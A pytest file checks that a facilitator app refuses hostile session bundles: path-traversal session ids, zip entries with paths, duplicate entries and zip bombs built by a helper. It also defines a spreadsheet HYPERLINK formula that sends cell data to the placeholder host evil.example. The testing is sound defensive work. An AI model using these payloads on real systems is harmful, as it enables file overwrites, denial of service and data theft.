"""Session folders and bundles from elsewhere (a share, an e-mail): refused with a message
that names the problem, never a crash, an overwrite outside the folder or a half import."""

from __future__ import annotations

import json
import time
import zipfile
from datetime import date
from pathlib import Path

import pytest

from facilitator_app.app import main
from facilitator_app.domain.clock import ManualClock
from facilitator_app.services import session_tools
from facilitator_app.services.identity import Identity
from facilitator_app.services.lock import SessionLock
from facilitator_app.services.session import Session
from facilitator_app.services.session_folder import SessionError, SessionFolder
from facilitator_app.services.templates import instantiate, load_template

ME = Identity("laptop-0001", "Producer")
EVIL_HREF = '=HYPERLINK("http://evil.example/?d="&A1,"Anna")'


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    path = tmp_path / "Kickoff.fcsession"
    Session.create(path, instantiate(load_template(), date(2026, 12, 1)), ME, ManualClock()).close()
    return path


@pytest.fixture
def bundle(folder: Path, tmp_path: Path) -> Path:
    out = tmp_path / "kickoff.fcbundle"
    session_tools.export_bundle(folder, out)
    return out


def set_manifest(folder: Path, **fields: object) -> None:
    manifest = json.loads((folder / "manifest.json").read_text())
    manifest.update(fields)
    (folder / "manifest.json").write_text(json.dumps(manifest))


def rebuild(bundle: Path, out: Path, replace: dict[str, bytes | None] | None = None, extra=()) -> Path:  # type: ignore[no-untyped-def]
    """A copy of ``bundle`` with entries replaced (None: removed) and extra (name, bytes) added."""
    replace = replace or {}
    with zipfile.ZipFile(bundle) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            if info.filename in replace:
                data = replace[info.filename]
                if data is not None:
                    dst.writestr(info.filename, data)
            else:
                dst.writestr(info.filename, src.read(info))
        for name, data in extra:
            dst.writestr(name, data)
    return out


# ---------------------------------------------------------------- 1: ids that become paths


@pytest.mark.parametrize("bad_id", ["/tmp/victim", "../../../nowhere/x", "a/b", "..", "", "x" * 65, 7, None])
def test_a_session_id_that_is_not_an_id_is_refused_naming_the_field(folder: Path, bad_id: object) -> None:
    set_manifest(folder, session_id=bad_id)
    with pytest.raises(SessionError, match="'session_id'"):
        SessionFolder(folder)


def test_the_lock_never_writes_outside_its_folder(tmp_path: Path) -> None:
    victim = tmp_path / "victim"
    with pytest.raises(SessionError, match="not a session id"):
        SessionLock(tmp_path / "locks", str(victim))
    assert not (tmp_path / "victim.lock").exists()


def test_a_bundle_whose_manifest_names_a_path_is_not_imported(bundle: Path, tmp_path: Path) -> None:
    manifest = {"kind": "facilitator-console-session", "format": 1, "session_id": str(tmp_path / "victim")}
    hostile = rebuild(bundle, tmp_path / "hostile.fcbundle", {"manifest.json": json.dumps(manifest).encode()})
    target = tmp_path / "new.fcsession"
    assert main(["session", "import", str(hostile), str(target)]) == 2
    assert not target.exists()


# ---------------------------------------------------------------- 3: malformed bundles


@pytest.mark.parametrize(
    ("entries", "message"),
    [
        ({"bundle.json": b"[1, 2]"}, "not a Facilitator Console session file"),
        ({"bundle.json": b'{"kind": "facilitator-console-bundle", "format": "x"}'}, "'format'"),
        ({"manifest.json": b"[]"}, "not a Facilitator Console session manifest"),
        ({"manifest.json": b'{"kind": "facilitator-console-session", "session_id": "ab", "format": "x"}'}, "'format'"),
        ({"manifest.json": None}, "no manifest.json"),
        ({"bundle.json": b"{not json"}, "not a readable session file"),
    ],
)
def test_a_malformed_bundle_is_refused_and_leaves_nothing_behind(
    bundle: Path, tmp_path: Path, entries: dict[str, bytes | None], message: str, capsys: pytest.CaptureFixture[str]
) -> None:
    bad = rebuild(bundle, tmp_path / "bad.fcbundle", entries)
    target = tmp_path / "new.fcsession"
    assert main(["session", "import", str(bad), str(target)]) == 2
    assert message in capsys.readouterr().err
    assert not target.exists()
    assert [p.name for p in tmp_path.iterdir() if "importing" in p.name] == []


def test_duplicate_entry_names_are_refused(bundle: Path, tmp_path: Path) -> None:
    with zipfile.ZipFile(bundle) as src:
        log_name = next(n for n in src.namelist() if n.endswith(".jsonl"))
    with pytest.warns(UserWarning, match="Duplicate name"):  # zipfile warns, and writes it
        dup = rebuild(bundle, tmp_path / "dup.fcbundle", extra=[(log_name, b"")])
    with pytest.raises(SessionError, match="twice"):
        session_tools.import_bundle(dup, tmp_path / "new.fcsession")
    assert not (tmp_path / "new.fcsession").exists()


def test_an_entry_with_a_path_of_its_own_is_refused(bundle: Path, tmp_path: Path) -> None:
    bad = rebuild(bundle, tmp_path / "bad.fcbundle", extra=[("events/../../evil.jsonl", b"")])
    with pytest.raises(SessionError, match="does not have"):
        session_tools.import_bundle(bad, tmp_path / "new.fcsession")


def test_a_bundle_without_a_valid_event_creates_no_folder(bundle: Path, tmp_path: Path) -> None:
    with zipfile.ZipFile(bundle) as src:
        logs = {n: b"garbage\n" for n in src.namelist() if n.endswith(".jsonl")}
    empty = rebuild(bundle, tmp_path / "empty.fcbundle", logs)
    target = tmp_path / "new.fcsession"
    with pytest.raises(SessionError, match="no valid event"):
        session_tools.import_bundle(empty, target)
    assert not target.exists()


def test_a_bundle_without_its_creation_event_creates_no_folder(bundle: Path, tmp_path: Path) -> None:
    with zipfile.ZipFile(bundle) as src:
        logs = {n: src.read(n).split(b"\n", 1)[1] for n in src.namelist() if n.endswith(".jsonl")}
    headless = rebuild(bundle, tmp_path / "headless.fcbundle", logs)
    target = tmp_path / "new.fcsession"
    with pytest.raises(SessionError, match="no readable run-of-show"):
        session_tools.import_bundle(headless, target)
    assert not target.exists()


def test_an_import_into_a_new_folder_opens(bundle: Path, tmp_path: Path) -> None:
    target = tmp_path / "sub" / "new.fcsession"
    assert session_tools.import_bundle(bundle, target) > 0
    Session.open(target, Identity("other-0002", "Other"), ManualClock()).close()
    assert [p.name for p in target.parent.iterdir()] == ["new.fcsession"]


# ---------------------------------------------------------------- 2: zip bombs


def bomb(bundle: Path, out: Path, size: int) -> Path:
    with zipfile.ZipFile(bundle) as src:
        log_name = next(n for n in src.namelist() if n.endswith(".jsonl"))
    with zipfile.ZipFile(bundle) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            if info.filename != log_name:
                dst.writestr(info.filename, src.read(info))
        with dst.open(log_name, "w", force_zip64=True) as fh:
            block = b"\n" * (1 << 20)
            for _ in range(size >> 20):
                fh.write(block)
    return out


def test_a_zip_bomb_is_refused_by_its_ratio_early(bundle: Path, tmp_path: Path) -> None:
    hostile = bomb(bundle, tmp_path / "bomb.fcbundle", 64 << 20)  # 64 MiB of newlines, ~64 KB
    started = time.perf_counter()
    with pytest.raises(SessionError, match="zip bomb"):
        session_tools.import_bundle(hostile, tmp_path / "new.fcsession")
    assert time.perf_counter() - started < 30  # refused at the first MiBs, not after reading 64
    assert not (tmp_path / "new.fcsession").exists()


def test_the_total_size_a_bundle_declares_is_checked_first(bundle: Path, tmp_path: Path, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    monkeypatch.setattr(session_tools, "MAX_TOTAL_BYTES", 1000)
    with pytest.raises(SessionError, match="expands to"):
        session_tools.import_bundle(bundle, tmp_path / "new.fcsession")


def test_an_entry_larger_than_the_limit_is_refused(bundle: Path, tmp_path: Path, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    monkeypatch.setattr(session_tools, "MAX_ENTRY_BYTES", 100)
    monkeypatch.setattr(session_tools, "_CHUNK", 64)
    with pytest.raises(SessionError, match="more than 0 MiB"):
        session_tools.import_bundle(bundle, tmp_path / "new.fcsession")


# ---------------------------------------------------------------- 4, 5: verify and a damaged manifest


def test_a_damaged_manifest_format_is_refused_by_verify_with_exit_2(
    folder: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    set_manifest(folder, format="x")
    assert main(["session", "verify", str(folder)]) == 2
    assert "'format'" in capsys.readouterr().err


@pytest.mark.parametrize("damage", ["first line deleted", "empty log", "no events folder"])
def test_verify_says_when_the_app_refuses_a_session(
    folder: Path, damage: str, capsys: pytest.CaptureFixture[str]
) -> None:
    log = folder / "events" / f"{ME.writer_id}.jsonl"
    if damage == "first line deleted":
        log.write_bytes(log.read_bytes().split(b"\n", 1)[1])
    elif damage == "empty log":
        log.write_bytes(b"")
    else:
        log.unlink()
        (folder / "events").rmdir()
    assert main(["session", "verify", str(folder)]) == session_tools.EXIT_REFUSED == 3
    assert "REFUSES it: it holds no readable run-of-show" in capsys.readouterr().out
    with pytest.raises(SessionError, match="no readable run-of-show"):
        Session.open(folder, ME, ManualClock())


def test_verify_says_the_app_opens_a_good_session(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["session", "verify", str(folder)]) == 0
    assert "app       opens it" in capsys.readouterr().out


# ---------------------------------------------------------------- 14: global options on both sides


def test_global_options_before_the_command(tmp_path: Path) -> None:
    data = tmp_path / "data"
    assert main(["--data-dir", str(data), "session", "new", str(tmp_path / "A.fcsession")]) == 0
    assert (data / "data" / "identity.json").is_file()
    assert main([f"--data-dir={tmp_path / 'd2'}", "session", "new", str(tmp_path / "B.fcsession")]) == 0
    assert (tmp_path / "d2" / "data" / "identity.json").is_file()
    assert main(["session", "--data-dir", str(tmp_path / "d3"), "new", str(tmp_path / "C.fcsession")]) == 0
    assert (tmp_path / "d3" / "data" / "identity.json").is_file()
    assert main(["session", "new", str(tmp_path / "D.fcsession"), "--data-dir", str(tmp_path / "d4")]) == 0
    assert main(["--data-dir", str(data), "session", "verify", str(tmp_path / "A.fcsession")]) == 0


# ---------------------------------------------------------------- 1, 4: the GUI opens the sample instead


@pytest.mark.parametrize(
    "fields", [{"session_id": "../../../nowhere/victim"}, {"session_id": "/tmp/victim"}, {"format": "x"}]
)
def test_the_gui_opens_the_sample_with_the_message(folder: Path, tmp_path: Path, fields: dict[str, object]) -> None:
    import os
    import subprocess
    import sys

    set_manifest(folder, **fields)
    root = Path(__file__).resolve().parents[2]
    env = {**os.environ, "QT_QPA_PLATFORM": "offscreen", "FACILITATOR_QUIT_AFTER_SHOW": "1"}
    done = subprocess.run(
        [sys.executable, str(root / "main.py"), "--data-dir", str(tmp_path / "d"), str(folder)],
        capture_output=True,
        text=True,
        env=env,
        timeout=120,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    assert "first-window-shown-at" in done.stdout
    assert "Traceback" not in done.stderr
    log = (tmp_path / "d" / "logs" / "console.log").read_text()
    assert "cannot open session" in log and ("'session_id'" in log or "'format'" in log)
    assert not list((tmp_path / "d" / "logs").glob("crash-*"))
    assert not Path("/tmp/victim.lock").exists()
    assert (tmp_path / "d" / "data" / "sessions" / "Sample event.fcsession" / "manifest.json").is_file()
